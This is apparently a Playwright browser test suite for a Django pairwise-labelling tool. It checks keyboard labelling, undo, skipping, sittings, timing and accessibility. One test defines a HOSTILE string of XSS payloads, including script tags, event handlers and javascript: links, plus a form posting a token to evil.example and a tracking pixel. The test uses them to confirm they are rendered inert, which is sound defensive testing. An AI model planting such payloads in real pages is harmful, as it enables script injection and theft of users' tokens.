"""Labelling in a real browser: by keyboard alone, from the first pair to the end of the sitting."""

from datetime import timedelta

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from annotation.models import Assignment, Instruction, Item, Judgment, JudgmentRevision, Sitting
from annotation.services.sittings import end_sitting
from tests.annotation.bench import done, open_bench, press, ready, saved, shown, stored
from tests.factories import make_pair_item, make_prompt
from tests.pages import assert_accessible

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def test_twenty_pairs_by_keyboard_alone(bench):
    seen, keys = [], "12345678" * 2 + "1808"
    for key in keys:
        seen.append(shown(bench))
        press(bench, key)
        if key != keys[-1]:
            expect(bench.locator(".turn[data-last] .prose")).not_to_have_text(seen[-1][0])
    stored(20)
    done(bench, 20)
    rows = list(Judgment.objects.select_related("item__prompt").order_by("judged_at"))
    for key, (question, a, b), row in zip(keys, seen, rows, strict=True):
        assert row.item.prompt.messages[0]["content"] == question
        texts = [entry.completion.text for entry in row.item.entries.select_related("completion")]
        assert [texts[index] for index in row.shown_order] == [a, b]
        if key == "0":
            assert (row.outcome, row.strength) == ("both_bad", None)
            continue
        towards_a = {1: 4, 2: 3, 3: 2, 4: 1, 5: -1, 6: -2, 7: -3, 8: -4}[int(key)]
        assert row.strength == (towards_a if a.startswith("first") else -towards_a)
        assert row.active_ms is not None
    assert len({row.item_id for row in rows}) == 20
    left = sum(row.shown_order[0] == 0 for row in rows)
    assert 7 <= left <= 13


def test_a_key_held_down_answers_once(bench):
    bench.keyboard.down("1")
    for _ in range(5):
        bench.keyboard.down("1")
    bench.keyboard.up("1")
    stored(1)
    saved(bench)
    done(bench, 1)


def test_comment_undo_and_undo_again(bench):
    first = shown(bench)
    press(bench, "c")
    bench.keyboard.type("because 1 runs")  # digits in a comment judge nothing
    press(bench, "Escape", "3")
    stored(1, comment="because 1 runs")
    second = shown(bench)
    press(bench, "8")
    expect(bench.locator("#toast")).to_contain_text("Pair 2: B much better")
    press(bench, "u")
    assert shown(bench) == second
    press(bench, "u")
    assert shown(bench) == first
    expect(bench.locator("#comment")).to_have_value("because 1 runs")
    stored(0)
    done(bench, 0)
    press(bench, "6", "7")
    stored(2)
    assert Judgment.objects.count() == 2
    assert JudgmentRevision.objects.count() == 6


def test_skip_and_flag_with_reasons(bench):
    press(bench, "s")
    expect(bench.locator("#skip-reasons")).to_be_visible()
    press(bench, "Escape")
    expect(bench.locator("#skip-reasons")).to_be_hidden()
    press(bench, "s", "3")
    stored(1, outcome="skip", reason="unclear")
    press(bench, "f", "Tab", "Enter")
    stored(1, outcome="broken", reason="identical")
    assert Item.objects.filter(put_aside=True).count() == 1
    saved(bench)
    expect(bench.locator(".ruler .put-aside")).to_have_count(2)


def test_arrow_keys_only_look_and_enter_answers(bench):
    bench.locator("input[name=grade]").first.focus()
    press(bench, "ArrowRight", "ArrowRight")
    saved(bench)
    assert not Judgment.objects.exists()
    press(bench, "Enter")
    stored(1, shown_value={"grade": 3, "scale": 8})


def test_a_pointer_answers_at_once(bench):
    bench.locator(".cell").nth(4).click()
    stored(1, shown_value={"grade": 5, "scale": 8})


def test_an_answer_is_read_again_and_changed(bench):
    first = shown(bench)
    press(bench, "1", "2", "3")
    stored(3)
    saved(bench)
    here = shown(bench)
    press(bench, "a")
    rows = bench.locator("#answers tbody tr")
    expect(rows).to_have_count(3)
    expect(rows.last).to_contain_text("A much better")
    rows.last.get_by_role("button").click()
    expect(bench.locator(".turn[data-last] .prose")).to_have_text(first[0])
    assert shown(bench) == first
    expect(bench.locator("input[value='1']")).to_be_checked()
    press(bench, "Escape")
    assert shown(bench) == here
    press(bench, "a")
    rows.last.get_by_role("button").click()
    expect(bench.locator(".turn[data-last] .prose")).to_have_text(first[0])
    press(bench, "7")
    stored(1, shown_value={"grade": 7, "scale": 8})
    assert shown(bench) == here
    assert Judgment.objects.count() == 3
    done(bench, 3)


def test_the_guide_changes_while_somebody_labels(bench, project, alice):
    Instruction.objects.create(project=project, number=2, text="Prefer **brevity**.", created_by=alice)
    press(bench, "c")
    bench.keyboard.type("x")
    expect(bench.locator("[data-note=guide]")).to_contain_text("guide 2")
    press(bench, "Escape", "g")
    expect(bench.locator("#guide-text strong")).to_have_text("brevity")


def test_a_sitting_that_ended_meanwhile(bench, project, bob):
    press(bench, "1")
    stored(1)
    saved(bench)
    end_sitting(project, by=bob)
    press(bench, "2")
    stored(2)
    expect(bench.locator("[data-note=ended]")).to_contain_text("this is a new sitting")
    press(bench, "3")
    stored(3)
    assert Sitting.objects.count() == 2


def test_the_goal_and_the_end_of_a_sitting(visit, bob, project, pairs):
    project.sitting_goal = 3
    project.save()
    bench = open_bench(visit, bob)
    press(bench, "1", "0", "s", "1")
    expect(bench.locator("[data-note=goal]")).to_contain_text("3 pairs: the sitting is complete")
    bench.locator("[data-note=goal]").get_by_role("button", name="End the sitting").click()
    bench.wait_for_url("**/sittings/*/")
    expect(bench.locator("h1")).to_have_text("The sitting is over")
    expect(bench.locator("main")).to_contain_text("1 both bad, 1 skipped, 0 flagged")
    assert Judgment.objects.count() == 3
    assert Sitting.objects.get().ended_at is not None


def test_the_queue_runs_dry_and_fills_again(visit, bob, project):
    make_pair_item(project, "first", "second")
    bench = open_bench(visit, bob)
    press(bench, "1")
    expect(bench.locator(".bench-empty")).to_contain_text("Nothing to label just now")
    stored(1)
    make_pair_item(project, "third", "fourth")
    bench.evaluate("dispatchEvent(new Event('online'))")
    bench.reload()
    expect(bench.locator(".side")).to_have_count(2)


def test_reading_counts_and_going_away_does_not(bench):
    bench.clock.install()
    bench.reload()
    ready(bench)
    bench.clock.run_for(20_000)  # reading in silence
    bench.clock.run_for(600_000)  # gone: the clock stands after the time that reading takes
    expect(bench.locator("#clock-stands")).to_be_visible()
    bench.keyboard.press("Shift")
    Assignment.objects.update(handed_at=timezone.now() - timedelta(hours=1))
    press(bench, "1")
    bench.clock.run_for(1_000)
    stored(1)
    assert 40_000 <= Judgment.objects.get().active_ms <= 50_000


HOSTILE = """<script>alert(1)</script> <img src=x onerror="alert(2)"> [x](javascript:alert(3))
<svg onload=alert(4)> <style>body{display:none}</style> ![](https://spy.example/pixel.png)
<form id="vote" action="https://evil.example"><input name=token></form>

| <b onclick=alert(5)>a</b> |
|---|
| </div></main><iframe src="javascript:alert(6)"></iframe> |
"""


def test_hostile_text_does_nothing(visit, bob, alice, project):
    """A dialog, a console message or a request elsewhere would fail the page."""
    prompt = make_prompt(project, HOSTILE)
    for _ in range(3):
        make_pair_item(project, HOSTILE, HOSTILE, prompt=prompt)
    Instruction.objects.create(project=project, number=2, text=HOSTILE, created_by=alice)
    bench = open_bench(visit, bob)
    for side in "ab":
        expect(bench.locator(f".side[data-side={side}]")).to_contain_text("<script>alert(1)</script>")
    assert bench.locator("main script, main img, main iframe, .prose form, .prose style").count() == 0
    press(bench, "c")
    bench.keyboard.type(HOSTILE)
    press(bench, "Escape", "1")
    stored(1)
    press(bench, "a")
    expect(bench.locator("#answers tbody tr")).to_have_count(1)
    bench.goto("/your-work/")
    expect(bench.locator("main")).to_contain_text("<script>")
    bench.goto(f"/p/wall/sittings/{Sitting.objects.get().pk}/")
    expect(bench.locator("main")).to_contain_text("<script>")


@pytest.mark.parametrize(("width", "dark"), [(1440, False), (1440, True), (390, False), (390, True)])
def test_axe_finds_nothing(visit, bob, project, pairs, width, dark):
    make_pair_item(project, "# Head\n\n```\ncode\n```\n\n|a|\n|-|\n|b|", "### Deep\n\n1. one")
    bench = open_bench(visit, bob, width=width, dark=dark)
    assert_accessible(bench)
    press(bench, "1", "c")
    saved(bench)
    assert_accessible(bench)
    press(bench, "Escape", "s")
    assert_accessible(bench)
    press(bench, "Escape")
    for address in ("/your-work/", f"/p/wall/sittings/{Sitting.objects.get().pk}/"):
        bench.goto(address)
        assert_accessible(bench)


def test_without_javascript_the_form_posts(visit, bob, pairs):
    page = visit.browser.new_context(java_script_enabled=False, base_url=visit.address).new_page()
    page.context.add_cookies([visit.cookie(bob)])
    page.goto("/p/wall/label/")
    first = shown(page)
    page.locator(".cell").nth(1).click()
    page.locator("#comment").fill("plainly")
    page.get_by_role("button", name="Send and go on").click()
    assert shown(page) != first
    page.get_by_role("button", name="Both bad").click()
    page.get_by_role("button", name="Skip").click()
    page.get_by_role("button", name="The task is unclear").click()
    rows = Judgment.objects.order_by("judged_at")
    assert [(row.outcome, row.shown_value, row.comment, row.reason) for row in rows] == [
        ("answer", {"grade": 2, "scale": 8}, "plainly", ""),
        ("both_bad", {}, "", ""),
        ("skip", {}, "", "unclear"),
    ]
    page.context.close()
